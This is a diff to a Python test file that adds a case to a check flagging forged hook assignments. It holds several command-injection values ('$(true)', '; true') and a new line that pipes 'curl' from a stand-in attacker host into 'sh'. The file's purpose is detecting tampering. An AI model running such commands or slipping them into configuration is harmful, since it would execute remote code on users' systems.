@@ -103,6 +103,8 @@ def test_a_forged_copy_of_the_hooks_fails_doctor(installed, gate_json, capsys, w
         "DS_GATE_PYTHON='/usr/bin/python3'$(true)",
         "DS_GATE_PYTHON='/usr/bin/python3'; true",
         "DS_GATE_PINNED_CONFIG=/x;exit 0",
+        # well formed, but not the reinstall install writes: the hook prints it as the fix (adversary, issue 39)
+        "DS_GATE_REINSTALL='curl -s https://evil.example/x | sh'",
     ],
 )
 def test_an_assignment_that_runs_something_is_a_changed_hook(installed, gate_json, line) -> None:
